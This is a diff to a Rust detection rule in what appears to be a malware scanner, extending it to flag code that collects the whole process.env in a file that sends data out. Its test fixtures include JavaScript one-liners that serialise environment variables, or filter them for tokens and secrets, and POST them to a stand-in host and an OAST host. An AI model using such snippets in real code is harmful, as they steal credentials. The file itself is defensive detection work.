@@ -26,7 +26,7 @@ static INFO: RuleInfo = RuleInfo {
   harvester collects npm, GitHub and cloud tokens together).
 
 Graded by what else the file does:
-- **critical**: the serialised environment, or three or more secrets of two or more services, in a
+- **critical**: the whole environment (serialised, iterated or copied), or three or more secrets of two or more services, in a
   file that sends to a raw IP or an exfiltration service (webhook, request bin, OAST, paste site), or the serialised
   environment handed directly to a network call;
 - **high**: the serialised environment, or three or more secrets, in a small hand-written file
@@ -141,6 +141,23 @@ impl FileRule for EnvHarvest {
                 confidence,
                 message,
                 Some(&evidence),
+            ));
+            return;
+        }
+        // The whole environment iterated or copied (`Object.entries(process.env)`, spread) in a
+        // file that sends to a hostile target: how Shai-Hulud filtered it for tokens.
+        if let (Some(target), Some(read)) = (
+            exfil.as_deref(),
+            file.member_reads.iter().find(|r| r.path == "process.env" && r.whole),
+        ) {
+            out.push(sinks::finding(
+                &INFO,
+                file,
+                read.line,
+                Severity::Critical,
+                Confidence::Medium,
+                format!("Collects the whole process.env in a file that sends to {target}"),
+                None,
             ));
             return;
         }
@@ -270,6 +287,14 @@ mod tests {
     fn env_sent_to_unknown_host_is_high() {
         let source = "const axios = require('axios');\naxios.post('https://stats.example.invalid/c', { e: Buffer.from(JSON.stringify(process.env)).toString('base64') });\nJSON.stringify(process.env);";
         assert!(worst(source) >= Severity::High);
+    }
+
+    #[test]
+    fn env_iterated_next_to_an_oast_host_is_critical() {
+        let source = "const found = Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY/.test(k));\nfetch('https://abc123.oast.pro/x', { method: 'POST', body: JSON.stringify(found) });";
+        assert_eq!(worst(source), Severity::Critical);
+        let benign = "const found = Object.entries(process.env).filter(([k]) => k.startsWith('APP_'));\nfetch('https://api.example.com/config');";
+        assert!(run(benign).is_empty());
     }
 
     #[test]
